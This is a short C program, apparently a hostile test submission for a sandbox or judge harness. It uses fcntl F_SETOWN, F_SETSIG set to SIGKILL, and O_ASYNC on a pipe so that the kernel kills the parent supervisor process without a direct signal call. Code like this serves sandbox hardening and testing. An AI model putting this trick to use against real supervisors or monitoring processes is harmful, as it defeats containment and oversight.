/* Hostile submission: has the kernel signal mdat without a signal call.
 * fcntl(F_SETOWN) names its parent (the explorer) as the owner of a
 * pipe, F_SETSIG makes the notice SIGKILL, O_ASYNC turns it on, and a
 * write into the pipe sends it. F_SETOWN_EX the same. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    int p[2];
    if (pipe(p) != 0)
        return 1;
    pid_t parent = getppid();
    int a = fcntl(p[0], F_SETOWN, parent);
    struct f_owner_ex owner = {F_OWNER_PID, parent};
    int b = fcntl(p[0], F_SETOWN_EX, &owner);
    fcntl(p[0], F_SETSIG, SIGKILL);
    fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(p[1], "x", 1) != 1)
        return 1;
    printf("setown: %d %d\n", a, b);
    return 0;
}
